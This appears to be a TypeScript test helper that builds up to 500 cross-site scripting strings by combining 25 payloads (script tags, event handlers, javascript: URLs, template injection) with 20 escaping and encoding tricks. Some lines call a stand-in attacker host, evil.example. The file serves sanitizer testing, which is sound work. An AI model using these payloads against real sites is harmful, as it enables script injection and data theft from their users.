// Five hundred texts that run as a script wherever text becomes markup, each way of hiding it in each way of running it.

const runs = [
  '<script>window.ran=1</script>',
  '<img src=x onerror=window.ran=1>',
  '<svg onload=window.ran=1>',
  '<svg><script>window.ran=1</script></svg>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  '<a href="javascript:window.ran=1">x</a>',
  '<body onload=window.ran=1>',
  '<details open ontoggle=window.ran=1>',
  '<input autofocus onfocus=window.ran=1>',
  '<math><mi xlink:href="javascript:window.ran=1">x',
  '<object data="javascript:window.ran=1">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:window.ran=1">',
  '<base href="https://evil.example/">',
  '<form action="javascript:window.ran=1"><button>x',
  '<video><source onerror=window.ran=1>',
  '<marquee onstart=window.ran=1>',
  'javascript:window.ran=1',
  'data:text/html,<script>window.ran=1</script>',
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '<template><script>window.ran=1</script></template>',
  '<img src="https://evil.example/beacon.gif">',
  '__proto__',
] as const

const hides: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title>${text}`,
  (text) => `</script>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `-->${text}`,
  (text) => `]]>${text}`,
  (text) => text.toUpperCase().replaceAll('WINDOW.RAN', 'window.ran'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '%3C'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\u00a0'),
  (text) => `\u202e${text}`,
  (text) => `\ufeff${text}`,
  (text) => `\`${text}\``,
  (text) => `</style>${text}`,
  (text) => `x" ${text} y="`,
  (text) => `${text}\u2028`,
]

/** All of them, or some of them in which every way of hiding and every way of running comes equally often. */
export function hostileTexts(count: number): readonly string[] {
  const step = Math.max(1, Math.floor((hides.length * runs.length) / count))
  return hides.flatMap((hide, way) => runs.filter((_, index) => (index + way) % step === 0).map(hide))
}
